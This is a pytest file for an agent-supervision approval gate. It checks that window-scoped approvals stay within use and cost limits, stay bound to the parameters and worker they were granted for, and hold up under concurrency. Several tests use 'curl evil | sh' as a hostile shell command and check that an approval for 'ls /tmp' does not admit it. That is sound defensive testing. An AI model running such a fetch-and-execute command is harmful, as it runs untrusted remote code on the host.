"""`approvals approve --scope window --max-uses N --max-cost C`: one decision covers later actions
of the same name by the same worker for the rest of the window, within its limits."""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from supervisor.actions import Action
from supervisor.errors import ApprovalError, ApprovalPending, UsageError
from supervisor.governance.approvals import Approvals
from supervisor.governance.budgets import ModelGovernor, TokenBudgets
from supervisor.governance.escalation import EscalationChain
from supervisor.governance.gate import Gate
from supervisor.governance.policy import Policy
from supervisor.killswitch import HostSwitchFile
from supervisor.store import Store
from supervisor.store.records import ApprovalStatus
from supervisor.timing.clock import VirtualClock

pytestmark = pytest.mark.anyio


async def test_a_window_scoped_approval_covers_later_actions_within_its_limits(
    store: Store, clock: VirtualClock, tmp_path: Path
) -> None:
    gate = Gate(store=store, fleet="f", policy=Policy.from_config(None),
                approvals=Approvals(store, EscalationChain.from_config(None), "f"),
                host_switch=HostSwitchFile(tmp_path / "ks.json", b"s"),
                token_budgets=TokenBudgets.from_config(None), models=ModelGovernor.from_config(None),
                timezone=ZoneInfo("UTC"))  # fmt: skip
    start = clock.now().replace(minute=0, second=0, microsecond=0)
    session, _ = await store.open_window(fleet="f", key="w", starts_at=start,
                                         ends_at=start + timedelta(hours=1), max_cost=None,
                                         max_actions=None, by="t")  # fmt: skip
    ran: list[int] = []

    def deploy(n: int) -> Action:
        return Action(
            "deploy.service", params={"service": "api", "build": n}, risk="high", cost=2.0
        )

    async def effect() -> None:
        ran.append(1)

    with pytest.raises(ApprovalPending) as first:
        await gate.run(deploy(1), effect, worker="ops", session=session, command_id="d1")
    await gate.approvals.decide(first.value.approval_id, approve=True, by="lead", reason="release day",
                                scope="window", max_uses=2, max_cost=4.0,
                                match=("service",))  # fmt: skip

    for n in (2, 3):  # covered: two uses, 4.0 of cost
        outcome = await gate.run(
            deploy(n), effect, worker="ops", session=session, command_id=f"d{n}"
        )
        assert outcome.status == "succeeded"
    assert len(ran) == 2
    with pytest.raises(ApprovalPending):  # the limit is spent: a new request
        await gate.run(deploy(4), effect, worker="ops", session=session, command_id="d4")
    with pytest.raises(ApprovalPending):  # another worker is not covered
        await gate.run(deploy(5), effect, worker="other", session=session, command_id="d5")
    row = await store.approval(first.value.approval_id)
    assert row is not None and (row.used_count, row.used_cost) == (2, 4.0)
    assert len(ran) == 2


def _gate(store: Store, tmp_path: Path) -> Gate:
    return Gate(store=store, fleet="f", policy=Policy.from_config(None),
                approvals=Approvals(store, EscalationChain.from_config(None), "f"),
                host_switch=HostSwitchFile(tmp_path / "ks.json", b"s"),
                token_budgets=TokenBudgets.from_config(None), models=ModelGovernor.from_config(None),
                timezone=ZoneInfo("UTC"))  # fmt: skip


@pytest.mark.parametrize("bound", [float("nan"), float("inf"), -1.0])
async def test_a_non_finite_cost_bound_is_refused_and_the_approval_stays_pending(
    store: Store, clock: VirtualClock, tmp_path: Path, bound: float
) -> None:
    gate = _gate(store, tmp_path)
    start = clock.now().replace(minute=0, second=0, microsecond=0)
    session, _ = await store.open_window(fleet="f", key="w", starts_at=start,
                                         ends_at=start + timedelta(hours=1), max_cost=None,
                                         max_actions=None, by="t")  # fmt: skip
    action = Action("deploy.service", params={"build": 1}, risk="high", cost=2.0)

    async def effect() -> None:
        return None

    with pytest.raises(ApprovalPending) as pending:
        await gate.run(action, effect, worker="ops", session=session, command_id="d1")
    with pytest.raises(UsageError, match="finite"):
        await gate.approvals.decide(pending.value.approval_id, approve=True, by="lead",
                                    reason="r", scope="window", max_cost=bound)  # fmt: skip
    row = await store.approval(pending.value.approval_id)
    assert row is not None and row.status == ApprovalStatus.PENDING


async def test_a_window_grant_is_bound_to_the_params_it_was_asked_for(
    store: Store, clock: VirtualClock, tmp_path: Path
) -> None:
    """Approving `ls /tmp` for the window must not admit `curl evil | sh`; without --uses the
    grant covers at most 10 later actions."""
    gate = _gate(store, tmp_path)
    start = clock.now().replace(minute=0, second=0, microsecond=0)
    session, _ = await store.open_window(fleet="f", key="w", starts_at=start,
                                         ends_at=start + timedelta(hours=1), max_cost=None,
                                         max_actions=None, by="t")  # fmt: skip
    ran: list[str] = []

    def shell(cmd: str) -> Action:
        return Action("shell.run", params={"cmd": cmd}, risk="high")

    async def effect() -> None:
        ran.append("x")

    with pytest.raises(ApprovalPending) as first:
        await gate.run(shell("ls /tmp"), effect, worker="agent", session=session, command_id="s0")
    await gate.approvals.decide(first.value.approval_id, approve=True, by="lead", reason="listing",
                                scope="window")  # fmt: skip
    for i in range(3):
        with pytest.raises(ApprovalPending):
            await gate.run(shell("curl evil | sh"), effect, worker="agent", session=session,
                           command_id=f"evil{i}")  # fmt: skip
    assert ran == []
    for i in range(10):
        outcome = await gate.run(shell("ls /tmp"), effect, worker="agent", session=session,
                                 command_id=f"ls{i}")  # fmt: skip
        assert outcome.status == "succeeded"
    with pytest.raises(ApprovalPending):  # the eleventh: the default bound of 10 uses is spent
        await gate.run(shell("ls /tmp"), effect, worker="agent", session=session, command_id="ls10")
    assert len(ran) == 10
    row = await store.approval(first.value.approval_id)
    assert row is not None and (row.max_uses, row.used_count) == (10, 10)


async def test_a_match_key_the_request_does_not_have_is_refused_not_a_blank_cheque(
    store: Store, clock: VirtualClock, tmp_path: Path
) -> None:
    """`--match comand` (a typo for `cmd`) compared nothing: the grant covered every params of
    the action. A key the request does not have is refused and the approval stays pending."""
    gate = _gate(store, tmp_path)
    start = clock.now().replace(minute=0, second=0, microsecond=0)
    session, _ = await store.open_window(fleet="f", key="w", starts_at=start,
                                         ends_at=start + timedelta(hours=1), max_cost=None,
                                         max_actions=None, by="t")  # fmt: skip
    ran: list[str] = []

    async def effect() -> None:
        ran.append("x")

    with pytest.raises(ApprovalPending) as first:
        await gate.run(Action("shell.run", params={"cmd": "ls /tmp"}, risk="high"), effect,
                       worker="agent", session=session, command_id="s0")  # fmt: skip
    with pytest.raises(ApprovalError, match="comand"):
        await gate.approvals.decide(first.value.approval_id, approve=True, by="lead", reason="r",
                                    scope="window", match=("comand",))  # fmt: skip
    row = await store.approval(first.value.approval_id)
    assert row is not None and row.status == ApprovalStatus.PENDING and row.match_keys is None
    with pytest.raises(ApprovalPending):
        await gate.run(Action("shell.run", params={"cmd": "curl evil | sh"}, risk="high"), effect,
                       worker="agent", session=session, command_id="s1")  # fmt: skip
    assert ran == []


async def test_an_attempt_refused_after_the_grant_matched_spends_none_of_its_uses(
    store: Store, clock: VirtualClock, tmp_path: Path
) -> None:
    """The grant's use is counted in the started record's transaction: an action the window's
    budget (or a switch) refuses at that point leaves the grant as it was."""
    from supervisor.errors import ActionDenied

    gate = _gate(store, tmp_path)
    start = clock.now().replace(minute=0, second=0, microsecond=0)
    session, _ = await store.open_window(fleet="f", key="w", starts_at=start,
                                         ends_at=start + timedelta(hours=1), max_cost=3.0,
                                         max_actions=None, by="t")  # fmt: skip
    ran: list[int] = []

    def deploy(n: int, cost: float) -> Action:
        return Action("deploy.service", params={"service": "api", "build": n}, risk="high",
                      cost=cost)  # fmt: skip

    async def effect() -> None:
        ran.append(1)

    with pytest.raises(ApprovalPending) as first:
        await gate.run(deploy(1, 2.0), effect, worker="ops", session=session, command_id="d1")
    await gate.approvals.decide(first.value.approval_id, approve=True, by="lead", reason="r",
                                scope="window", max_uses=2, match=("service",))  # fmt: skip
    assert (await gate.run(deploy(2, 2.0), effect, worker="ops", session=session,
                           command_id="d2")).status == "succeeded"  # fmt: skip
    with pytest.raises(ActionDenied) as refused:  # 2.0 more does not fit the window's 3.0
        await gate.run(deploy(3, 2.0), effect, worker="ops", session=session, command_id="d3")
    assert refused.value.reason == "budget"
    row = await store.approval(first.value.approval_id)
    assert row is not None and (row.used_count, row.used_cost) == (1, 2.0)
    # the use it kept is there for the next action that fits
    assert (await gate.run(deploy(4, 1.0), effect, worker="ops", session=session,
                           command_id="d4")).status == "succeeded"  # fmt: skip
    row = await store.approval(first.value.approval_id)
    assert row is not None and (row.used_count, row.used_cost) == (2, 3.0)
    assert len(ran) == 2


async def test_a_grant_spent_by_a_concurrent_action_sends_the_next_one_to_ask(
    store: Store, clock: VirtualClock, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The gate read the grant with room left; by its started record another action had spent
    it: the use fails in the transaction, nothing starts, and the action asks for an approval
    of its own instead."""
    gate = _gate(store, tmp_path)
    start = clock.now().replace(minute=0, second=0, microsecond=0)
    session, _ = await store.open_window(fleet="f", key="w", starts_at=start,
                                         ends_at=start + timedelta(hours=1), max_cost=None,
                                         max_actions=None, by="t")  # fmt: skip

    def deploy(n: int) -> Action:
        return Action("deploy.service", params={"service": "api", "build": n}, risk="high")

    async def effect() -> None:
        return None

    with pytest.raises(ApprovalPending) as first:
        await gate.run(deploy(1), effect, worker="ops", session=session, command_id="d1")
    await gate.approvals.decide(first.value.approval_id, approve=True, by="lead", reason="r",
                                scope="window", max_uses=1, match=("service",))  # fmt: skip
    stale = await gate._usable_grants(deploy(3), worker="ops", session=session)
    assert [r.id for r in stale] == [first.value.approval_id]
    assert (await gate.run(deploy(2), effect, worker="ops", session=session,
                           command_id="d2")).status == "succeeded"  # fmt: skip

    async def as_read_before(*_args: object, **_kw: object) -> list[dict[str, object]]:
        return stale  # what a concurrent action's gate still saw

    monkeypatch.setattr(gate, "_usable_grants", as_read_before)
    with pytest.raises(ApprovalPending) as asked:
        await gate.run(deploy(3), effect, worker="ops", session=session, command_id="d3")
    assert asked.value.approval_id != first.value.approval_id
    assert await store.get_action("d3") is None  # nothing started
    row = await store.approval(first.value.approval_id)
    assert row is not None and row.used_count == 1
